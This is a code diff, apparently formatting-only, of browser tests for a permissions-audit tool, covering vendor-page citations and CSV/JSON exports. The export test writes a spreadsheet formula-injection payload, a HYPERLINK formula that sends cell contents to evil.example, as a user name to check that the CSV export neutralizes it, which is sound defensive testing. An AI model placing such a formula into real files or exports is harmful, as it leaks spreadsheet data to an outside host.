@@ -23,7 +23,10 @@ test('the why-chain cites the vendor page readably and opens it at the cited lin
   await expect(citation).toContainText('“View Blocking Mode — MSSP Analyst: ✗ UI ✓ API”');
   await expect(chain).not.toContainText('002_6448edd43804835f.txt');
   await expect(chain).not.toContainText('π');
-  await expect(citation).toHaveAttribute('title', /Partner Admin ✓ · MSSP Admin ✓ · MSSP Analyst ✗ UI ✓ API · .*Protect Executive ✗ UI ✓ API/); // the whole row on hover
+  await expect(citation).toHaveAttribute(
+    'title',
+    /Partner Admin ✓ · MSSP Admin ✓ · MSSP Analyst ✗ UI ✓ API · .*Protect Executive ✗ UI ✓ API/,
+  ); // the whole row on hover
   await screenshot(page, 'who-can-why-citation');
 
   // From the keyboard: focus the citation, Enter opens the page with the cited line marked and in view.
@@ -45,17 +48,26 @@ test('the why-chain cites the vendor page readably and opens it at the cited lin
   await expect(citation).toBeFocused();
 });
 
-test('exports: a hostile name comes out neutralized in the CSV; the JSON carries provenance and readable citations', async ({ page, host }) => {
+test('exports: a hostile name comes out neutralized in the CSV; the JSON carries provenance and readable citations', async ({
+  page,
+  host,
+}) => {
   const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'permaudit-hostile-'));
   const file = path.join(dir, 'hostile.csv');
   const hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
   fs.writeFileSync(
     file,
-    ['email,name,role,account,organization', `mallory@bayside.example,"${hostile.replace(/"/g, '""')}",Admin,Northwind MSP,Bayside Dental`, 'ada@northwind.example,Ada Lovelace,Admin,Northwind MSP,'].join('\n') + '\n',
+    [
+      'email,name,role,account,organization',
+      `mallory@bayside.example,"${hostile.replace(/"/g, '""')}",Admin,Northwind MSP,Bayside Dental`,
+      'ada@northwind.example,Ada Lovelace,Admin,Northwind MSP,',
+    ].join('\n') + '\n',
   );
   let snapshotId: number;
   try {
-    snapshotId = (await host.call<{ id: number }>('importFiles', { files: [await host.upload(file)], platform: 'huntress', name: 'Hostile' })).id;
+    snapshotId = (
+      await host.call<{ id: number }>('importFiles', { files: [await host.upload(file)], platform: 'huntress', name: 'Hostile' })
+    ).id;
   } finally {
     fs.rmSync(dir, { recursive: true, force: true });
   }
@@ -75,7 +87,9 @@ test('exports: a hostile name comes out neutralized in the CSV; the JSON carries
   const csvDownload = page.waitForEvent('download');
   await page.getByRole('button', { name: 'Export CSV' }).click();
   const csv = await csvDownload;
-  expect(csv.suggestedFilename()).toBe(`huntress-snapshot-${snapshotId}-northwind-msp-bayside-dental-who-can-approve-assisted-remediation-${day}.csv`);
+  expect(csv.suggestedFilename()).toBe(
+    `huntress-snapshot-${snapshotId}-northwind-msp-bayside-dental-who-can-approve-assisted-remediation-${day}.csv`,
+  );
   const text = fs.readFileSync(await csv.path(), 'utf8');
   const rows = Papa.parse<Record<string, string>>(text, { header: true, newline: '\r\n', skipEmptyLines: true }).data;
   const mallory = rows.find((r) => r.email === 'mallory@bayside.example');
@@ -95,5 +109,8 @@ test('exports: a hostile name comes out neutralized in the CSV; the JSON carries
     question: { kind: 'who-can', permission: 'remediation.approve', scope: 'Northwind MSP/Bayside Dental', channel: null },
   });
   expect(exported.provenance.generatedAt).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
-  expect(exported.entries.find((e: { email: string }) => e.email === 'mallory@bayside.example').grantSource[0]).toMatchObject({ title: 'Setting Huntress User Permissions', platform: 'Huntress' });
+  expect(exported.entries.find((e: { email: string }) => e.email === 'mallory@bayside.example').grantSource[0]).toMatchObject({
+    title: 'Setting Huntress User Permissions',
+    platform: 'Huntress',
+  });
 });
